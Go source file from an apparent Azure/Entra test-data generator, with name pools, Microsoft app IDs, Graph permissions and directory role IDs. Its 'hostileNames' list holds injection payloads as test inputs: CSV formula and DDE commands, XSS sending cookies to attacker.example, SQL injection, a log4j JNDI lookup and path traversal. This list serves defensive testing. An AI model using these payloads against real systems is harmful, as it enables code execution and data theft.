package genazure

import "strings"

// Name pools (read-only).
var (
	firstNames = []string{"Alex", "Maria", "Li", "Sam", "Fatima", "Jonas", "Priya", "Diego", "Yuki", "Omar", "Emma", "Noah", "Ava", "Liam", "Mia", "Lucas", "Zoe", "Ivan", "Sara", "Kenji", "Amara", "Felix", "Nina", "Hugo", "Leila", "Mateo", "Chloe", "Arjun", "Inès", "Tomás"}
	lastNames  = []string{"Garcia", "Chen", "Smith", "Müller", "Rossi", "Kim", "Nguyen", "Silva", "Khan", "Novák", "Brown", "Tanaka", "Dubois", "Okafor", "Johansson", "Kowalski", "Patel", "López", "Ivanova", "Cohen", "Martin", "Sato", "Haddad", "Jensen", "Costa", "Meyer", "Walsh", "Ortiz", "Ali", "Berg"}
	deptNames  = []string{"Engineering", "Sales", "Marketing", "Finance", "Operations", "Support", "Research", "Legal", "People", "Data", "Security", "Product", "Design", "Platform", "Mobile", "Payments"}
	appNames   = []string{"api", "web", "worker", "billing", "search", "ingest", "auth", "reports", "checkout", "catalog", "notify", "etl", "ledger", "gateway", "scheduler", "media"}
	envNames   = []string{"prod", "dev", "test", "stage"}
	topics     = []string{"Architecture", "On-call", "Hiring", "Offsite", "Book Club", "Wellness", "Announcements", "Release Train", "Incident Review", "Design Review", "Cost Council", "Training"}
	levelNames = []string{"squad", "tribe", "area", "division", "unit", "org", "branch", "sector"}
	// hostileNames are display names an attacker can set on their own
	// account or on a group or app they create: CSV formula injection,
	// HTML/script, SQL, bidi overrides, zero-width characters, template
	// and log4j-style lookups, control characters and an oversized name.
	hostileNames = []string{
		`=HYPERLINK("http://attacker.example/?leak="&A1,"Click for payroll")`,
		`=cmd|' /C calc'!A0`,
		`+SUM(1+1)*cmd|' /C notepad'!A0`,
		`-2+3+cmd|' /C powershell -enc SQBFAFgA'!A0`,
		`@SUM(1+9)*cmd|' /C calc'!A0`,
		`<script>alert(document.domain)</script>`,
		`<img src=x onerror="fetch('//attacker.example/'+document.cookie)">`,
		`"><svg/onload=alert(1)>`,
		`Robert'); DROP TABLE users;--`,
		"Admin\u202egnp.exe",
		"Zero\u200bWidth\u200dJoiner\ufeff",
		"{{7*7}} ${jndi:ldap://attacker.example/a}",
		"../../../etc/passwd",
		"Tab\tSeparated,Comma;Semi|Pipe\"Quote",
		"Line\r\nBreak",
		"José Müller-Łukasz 山田太郎 😀",
		"Global Administrator",
		strings.Repeat("A", 256),
	}
)

// firstPartyApps are Microsoft service principals present in every tenant
// (after Microsoft Graph, which is service principal 0).
var firstPartyApps = []struct{ appID, name string }{
	{"00000002-0000-0ff1-ce00-000000000000", "Office 365 Exchange Online"},
	{"00000003-0000-0ff1-ce00-000000000000", "Office 365 SharePoint Online"},
	{"c44b4083-3bb0-49c1-b47d-974e53cbdf3c", "Azure Portal"},
	{"04b07795-8ddb-461a-bbee-02f9e1bf7b46", "Microsoft Azure CLI"},
	{"6dae42f8-4368-4678-94ff-3960e28e3630", "Azure Kubernetes Service AAD Server"},
	{"797f4846-ba00-4fd7-ba43-dac1f8f63013", "Windows Azure Service Management API"},
	{"1fec8e78-bce4-4aaf-ab1b-5451cc387264", "Microsoft Teams"},
	{"499b84ac-1321-427f-aa17-267ca6975798", "Azure DevOps"},
}

const (
	graphAppID = "00000003-0000-0000-c000-000000000000"
	msTenant   = "f8cdef31-a31e-4b4a-93e4-5f571e91255a"
)

// graphAppRole is a Microsoft Graph application permission.
type graphAppRole struct {
	id, value, name string
	// weight among the permissions ordinary apps are granted; 0 for the
	// ones that let the holder manage every group, which only the fixed
	// tenant-admin holders get (Config.TenantAdmins).
	weight int
}

var graphAppRoles = []graphAppRole{
	{"df021288-bdef-4463-88db-98f22de89214", "User.Read.All", "Read all users' full profiles", 30},
	{"5b567255-7703-4780-807c-7be8301ae99b", "Group.Read.All", "Read all groups", 18},
	{"7ab1d382-f21e-4acd-a863-ba3e13f7da61", "Directory.Read.All", "Read directory data", 18},
	{"810c84a8-4a9e-49e6-bf7d-12d183f40d01", "Mail.Read", "Read mail in all mailboxes", 10},
	{"b0afded3-3588-46d8-8b3d-9842eff778da", "AuditLog.Read.All", "Read all audit log data", 10},
	{"1bfefb4e-e0b5-418b-a88f-73c46d2cc8e9", "Application.ReadWrite.All", "Read and write all applications", 2},
	{"06b708a9-e830-4db3-a914-8e69da51d44f", "AppRoleAssignment.ReadWrite.All", "Manage app permission grants and app role assignments", 1},
	{"62a82d76-70ea-41e2-9197-370581804d09", "Group.ReadWrite.All", "Read and write all groups", 0},
	{"dbaae8cf-10b5-4b86-a4a1-f871c94c6695", "GroupMember.ReadWrite.All", "Read and write all group memberships", 0},
	{"19dbc75e-c2e2-444c-a770-ec69d8559fc7", "Directory.ReadWrite.All", "Read and write directory data", 0},
	{"9e3f62cf-ca93-4989-b6ce-bf83c28f9fe8", "RoleManagement.ReadWrite.Directory", "Read and write all directory RBAC settings", 0},
}

// Directory role template ids (shared/catalog/azure/entra-directory-role-template-ids.json).
const (
	roleGA         = "62e90394-69f5-4237-9190-012177145e10"
	rolePRA        = "e8611ab8-c189-46e8-94e1-60213ab1f814"
	roleGroupsAdm  = "fdd7a751-b60b-444a-984c-02652fe8fa1c"
	roleUserAdm    = "fe930be7-5e62-47db-91af-98c3a49a38b1"
	roleAppAdm     = "9b895d92-2cd3-44c7-9d02-a6ac2d5ea5c3"
	roleCloudApp   = "158c047a-c907-4556-b7ef-446551a6b5f7"
	roleHelpdesk   = "729827e3-9c14-49f7-bb1b-9608f156bbb8"
	roleGlobalRead = "f2ef992c-3afb-46b9-b7cf-a126ee74c451"
)

// dirRole is a built-in directory role. weight is its share of ordinary
// assignments; au marks roles that are usually scoped to an
// administrative unit; tenantWide ones manage every group or the tenant
// and are only given to the fixed tenant-admin holders.
type dirRole struct {
	id, name   string
	weight     int
	au         bool
	tenantWide bool
}

var dirRoles = []dirRole{
	{roleGA, "Global Administrator", 0, false, true},
	{rolePRA, "Privileged Role Administrator", 0, false, true},
	{roleGroupsAdm, "Groups Administrator", 8, true, true},
	{roleUserAdm, "User Administrator", 8, true, true},
	{roleAppAdm, "Application Administrator", 4, false, false},
	{roleCloudApp, "Cloud Application Administrator", 3, false, false},
	{roleGlobalRead, "Global Reader", 12, false, false},
	{roleHelpdesk, "Helpdesk Administrator", 14, true, false},
	{"194ae4cb-b126-40b2-bd5b-6091b380977d", "Security Administrator", 4, false, false},
	{"5d6b6bb7-de71-4623-b4af-96380a352509", "Security Reader", 8, false, false},
	{"29232cdf-9323-42fd-ade2-1d097af3e4de", "Exchange Administrator", 4, false, false},
	{"f28a1f50-f6e7-4571-818b-6a12f2af6b6c", "SharePoint Administrator", 4, false, false},
	{"3a2c62db-5318-420d-8d74-23affee5d9d5", "Intune Administrator", 4, false, false},
	{"c4e39bd9-1100-46d3-8c65-fb160da0071f", "Authentication Administrator", 4, true, false},
	{"7be44c8a-adaf-4e2a-84d6-ab2649e08a13", "Privileged Authentication Administrator", 1, false, false},
	{"88d8e3e3-8f55-4a1e-953a-9b9898b8876b", "Directory Readers", 6, false, false},
	{"4a5d8f65-41da-4de4-8968-e035b65339cf", "Reports Reader", 4, false, false},
	{"b0f54661-2d74-4c50-afa3-1ec803f12efe", "Billing Administrator", 2, false, false},
	{"69091246-20e8-4a56-aa4d-066075b2a7a8", "Teams Administrator", 3, false, false},
	{"17315797-102d-40b4-93e0-432062caca18", "Compliance Administrator", 2, false, false},
	{"b1be1c3e-b65d-4f19-8427-f6fa0d97feb9", "Conditional Access Administrator", 2, false, false},
	{"cf1c38e5-3621-4004-a7cb-879624dced7c", "Application Developer", 3, false, false},
	{"4d6ac14f-3453-41d0-bef9-a3e0c569773a", "License Administrator", 2, false, false},
	{"966707d0-3269-4727-9be2-8c3a10f19b9d", "Password Administrator", 3, true, false},
}

func dirRoleWeights() []int {
	w := make([]int, len(dirRoles))
	for i, r := range dirRoles {
		w[i] = r.weight
	}
	return w
}

func slug(s string) string {
	return strings.ToLower(strings.ReplaceAll(s, " ", "-"))
}
